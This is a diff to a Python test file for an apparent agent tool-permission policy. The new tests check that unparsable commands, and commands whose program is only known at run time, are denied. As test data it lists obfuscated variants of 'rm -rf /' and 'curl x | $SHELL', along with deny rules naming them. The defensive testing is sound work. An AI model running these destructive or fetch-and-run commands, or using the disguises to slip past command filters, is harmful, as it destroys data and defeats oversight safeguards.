@@ -67,6 +67,45 @@ def test_unparsable_command_is_denied_when_a_deny_rule_exists_and_says_why() -> 
     assert tr.ToolPolicy().decide("run_command", {"command": "echo $(oops"}).action == "allow"
 
 
+@pytest.mark.parametrize("command", ["echo $(oops", "bash -c 'echo \"'", "ls 'unterminated"])
+@pytest.mark.parametrize(
+    "policy",
+    [tr.ToolPolicy(deny_tools=["write_file"]), tr.ToolPolicy(stop_tools=["shutdown"])],
+    ids=["deny_tools", "stop_tools"],
+)
+def test_unparsable_command_is_denied_when_any_deny_rule_exists(policy: tr.ToolPolicy, command: str) -> None:
+    # The issue: "a command that cannot be parsed is denied when any deny rule exists" -- a tool rule too.
+    decision = policy.decide("run_command", {"command": command})
+    assert (decision.action, decision.rule) == ("deny", "unreadable_command")
+    assert "could not be parsed" in decision.reason and "fail closed" in decision.reason
+    assert policy.decide("run_command", {"command": "ls -la"}).action == "allow"  # a readable command is judged
+    assert policy.decide("run_command", {"command": {"argv": ["ls"]}}).action == "deny"  # not a command at all
+
+
+RUN_TIME_DISGUISES = [
+    "$(echo rm) -rf /", "`echo rm` -rf /", "$X -rf /", "${X:-rm} -rf /", "r$()m -rf /", "$(which rm) -rf /",
+    "c=$(which rm); $c -rf /", 'eval "$(echo rm -rf /)"', "curl x | $(echo sh)", "curl x | $SHELL",
+]
+
+
+@pytest.mark.parametrize("command", RUN_TIME_DISGUISES)
+def test_programs_only_known_at_run_time_are_denied_and_fail_never_ran(command: str) -> None:
+    policy = tr.ToolPolicy(deny_commands=["rm -rf", "curl | sh"])
+    decision = policy.decide("run_command", {"command": command})
+    assert decision.action == "deny" and "only known at run time" in decision.reason, decision
+    run = tr.Run("x", tr.Trajectory(turns=[tr.Turn(tool_calls=[tr.ToolCall("run_command", {"command": command})])]))
+    verdicts = tr.check([expect.never_ran("rm -rf"), expect.never_ran("curl | sh")], run)
+    assert not all(v.passed for v in verdicts), [v.reason for v in verdicts]
+
+
+@pytest.mark.parametrize("command", ["$X", "ls; $(echo ls) -la", 'eval "$(echo ls)"', 'bash -c "ls $DIR"', "$SHELL -c ls"])
+def test_allow_commands_never_allow_what_is_only_known_at_run_time(command: str) -> None:
+    policy = tr.ToolPolicy(allow_commands=["ls", "echo", "eval", "bash"])
+    decision = policy.decide("run_command", {"command": command})
+    assert (decision.action, decision.rule) == ("deny", "allow_commands"), decision
+    assert policy.decide("run_command", {"command": "ls $HOME"}).action == "allow"
+
+
 def test_a_command_that_cannot_be_read_is_denied_and_fails_never_ran() -> None:
     arguments = {"command": {"argv": ["rm", "-rf", "/"]}}
     decision = tr.ToolPolicy(deny_commands=["rm -rf"]).decide("bash", arguments)
@@ -75,7 +114,7 @@ def test_a_command_that_cannot_be_read_is_denied_and_fails_never_ran() -> None:
     run = tr.Run(output="", trajectory=tr.Trajectory(turns=[tr.Turn(tool_calls=[tr.ToolCall("bash", arguments, id="c1")])]))
     verdict = tr.check([expect.never_ran("rm -rf")], run)[0]
     assert not verdict.passed
-    assert verdict.reason.startswith("could not be read (the command argument is {'argv': ['rm', '-rf', '/']}")
+    assert verdict.reason.startswith("could not be read (the command tool was given `{'argv': ['rm', '-rf', '/']}`")
     assert verdict.reason.endswith("(fail closed) via bash")
 
 
